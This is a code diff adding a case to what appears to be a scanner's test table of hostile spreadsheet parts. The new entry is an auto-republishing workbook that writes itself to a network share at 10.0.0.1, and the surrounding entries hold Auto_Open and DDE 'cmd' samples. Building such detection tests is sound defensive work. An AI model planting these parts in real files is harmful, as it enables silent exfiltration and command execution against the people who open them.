@@ -190,6 +190,14 @@ SHEETS: dict[str, tuple[bytes, str]] = {
     "a place that is a share": (_part("s.xml", f'<worksheet><hyperlink ref="A1" location="{_SHARE}"/></worksheet>'), "link"),
     "a name that starts by itself": (_part("n.xml", '<definedName name="_xlnm.Auto_Open">M!$A$1</definedName>'), "macro"),
     "a formula of a picture": (_part("d.xml", '<xdr:sp textlink="cmd|/c!A1"/>'), "dde"),
+    "a workbook that publishes itself": (
+        _part(
+            "w.xml",
+            '<webPublishObjects><webPublishObject id="1" divId="a" destinationFile="\\\\10.0.0.1\\a.htm" '
+            'autoRepublish="1"/></webPublishObjects>',
+        ),
+        "external",
+    ),
     "a query": (_part("q.xml", '<queryTable refreshOnLoad="1"/>'), "external"),
     "a pivot table of data elsewhere": (_part("p.xml", '<pivotCacheDefinition><cacheSource type="external"/></pivotCacheDefinition>'), "external"),
 }  # fmt: skip
